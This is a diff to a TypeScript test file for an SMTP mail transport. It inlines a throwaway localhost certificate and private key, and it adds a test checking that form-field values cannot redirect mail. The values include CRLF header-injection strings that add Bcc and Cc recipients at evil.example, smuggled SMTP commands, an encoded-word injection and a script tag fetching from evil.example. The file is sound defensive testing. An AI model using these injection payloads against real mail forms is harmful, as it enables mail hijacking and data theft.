@@ -3,9 +3,9 @@ import type { SMTPServerOptions } from 'smtp-server'
 import { expect, onTestFinished, test, vi } from 'vitest'
 import { leaseMs } from '../../delivery/attempt.ts'
 import { envelope } from '../../delivery/delivery.fixture.ts'
+import { fieldNames } from '../../fields.ts'
 import { asha, claimedMail } from '../../requests.fixture.ts'
 import { composeMail } from '../mail.ts'
-import { localhostCertificate } from './localhost-certificate.fixture.ts'
 import { startMailServer, startScriptedServer } from './mail-servers.fixture.ts'
 import { smtpTransport, usualTimeouts } from './smtp.ts'
 
@@ -64,6 +64,26 @@ test('a server may take as long as RFC 5321 4.5.3.2 allows', () => {
   expect(leaseMs).toBeGreaterThan(Math.max(usualTimeouts.greetingMs, usualTimeouts.silenceMs))
 })
 
+/** A certificate for localhost that only tests trust. Its key stands here for all to read and protects nothing. */
+const localhostCertificate = {
+  key: `-----BEGIN PRIVATE KEY-----
+MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgt8v0AXeeGvzAz4Ht
+Ow98pXTO471n8t0NwAOOdzJ1GfyhRANCAASg8mzbTtP2ZTL/kPbrNLPJBdlutN40
+AhB1yOsUIsVqMFPm5hvkv5IyUoPq4pfaKWunBcKIA4WLskVUNxFsm2Vd
+-----END PRIVATE KEY-----`,
+  cert: `-----BEGIN CERTIFICATE-----
+MIIBljCCATugAwIBAgIUKyplcgr7Dn3mZOO8CzxPdjOQMrEwCgYIKoZIzj0EAwIw
+FDESMBAGA1UEAwwJbG9jYWxob3N0MCAXDTI2MTEyMTE5NTMxNVoYDzIxMjYxMDI4
+MTk1MzE1WjAUMRIwEAYDVQQDDAlsb2NhbGhvc3QwWTATBgcqhkjOPQIBBggqhkjO
+PQMBBwNCAASg8mzbTtP2ZTL/kPbrNLPJBdlutN40AhB1yOsUIsVqMFPm5hvkv5Iy
+UoPq4pfaKWunBcKIA4WLskVUNxFsm2Vdo2kwZzAdBgNVHQ4EFgQUVWVWLeAPhsCJ
+0yXDOwgmusm6wxswHwYDVR0jBBgwFoAUVWVWLeAPhsCJ0yXDOwgmusm6wxswDwYD
+VR0TAQH/BAUwAwEB/zAUBgNVHREEDTALgglsb2NhbGhvc3QwCgYIKoZIzj0EAwID
+SQAwRgIhAJwr6wjJOWER70O3lnxde1R+BXOF+ITBtR0hHjkt+bMsAiEAkzjhC6NL
+2j4Q3kGSZ5aeUyxsOMNQ/wRrea35el2Ump0=
+-----END CERTIFICATE-----`,
+}
+
 test('with STARTTLS and a trusted certificate the mail arrives', async () => {
   setDefaultCACertificates([localhostCertificate.cert])
   onTestFinished(() => setDefaultCACertificates(rootCertificates))
@@ -93,4 +113,32 @@ test.each<[string, SMTPServerOptions]>([
 
 test('the destination is shown without the password', () => {
   expect(smtpTransport('smtp://desk:secret@smtp.example.com:587', true).goesTo).toBe('smtp.example.com:587')
+})
+
+const attacks = [
+  'x\r\nBcc: thief@evil.example',
+  'x\nCc: thief@evil.example\n\nbody',
+  'x\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<thief@evil.example>\r\nDATA\r\n',
+  'thief@evil.example, "x" <thief2@evil.example>',
+  'a@b.in>\r\nTo: <thief@evil.example',
+  '=?utf-8?Q?x=0D=0ABcc:_thief@evil.example?=',
+  '<script src="https://evil.example/x.js"></script><img src=https://evil.example>',
+  '\u2028Bcc: thief@evil.example\u0000\u0085',
+]
+
+// The form's rules refuse most of this already; here it gets past them.
+test.each(fieldNames)('nothing in the field %s reaches anybody but the clinic', async (name) => {
+  const server = await startMailServer()
+  const transport = smtpTransport(server.url, false)
+  const mails = attacks.map((attack) => composeMail(claimedMail({ [name]: attack }), envelope, new Date(0)))
+  await Promise.all(mails.map((mail) => transport.send(mail, signal)))
+
+  expect(server.mails.map(({ recipients }) => recipients)).toEqual(attacks.map(() => [envelope.to]))
+  for (const { parsed } of server.mails) {
+    expect(parsed).toMatchObject({ to: [{ address: envelope.to }], from: { address: envelope.from } })
+    expect(parsed).not.toHaveProperty('cc')
+    expect(parsed).not.toHaveProperty('bcc')
+    expect(parsed.replyTo?.length ?? 0).toBeLessThanOrEqual(1)
+    expect(parsed.html).not.toMatch(/<script|<img/)
+  }
 })
